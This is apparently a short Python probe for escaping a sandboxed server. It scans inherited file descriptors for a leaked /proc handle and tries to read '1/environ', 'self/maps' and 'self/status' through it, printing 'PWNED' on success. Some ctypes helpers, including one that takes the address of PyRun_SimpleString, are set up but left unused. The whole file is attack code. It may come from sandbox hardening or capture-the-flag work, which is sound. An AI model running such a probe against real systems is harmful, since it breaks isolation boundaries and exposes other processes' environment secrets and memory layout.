# looks for a descriptor of /proc, which the server has while it starts
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
L = ctypes.c_long
def text(name='PyRun_SimpleString'):
    return ctypes.cast(getattr(ctypes.pythonapi, name), ctypes.c_void_p).value
for fd in range(3, 4096):
    try: print("PWNED", fd, os.fstat(fd))
    except OSError: pass
for fd in range(0, 64):
    for name in ("self/maps", "1/environ", "self/status"):
        try: os.open(name, os.O_RDONLY, dir_fd=fd); print("PWNED", fd, name)
        except OSError: pass
print("clean")
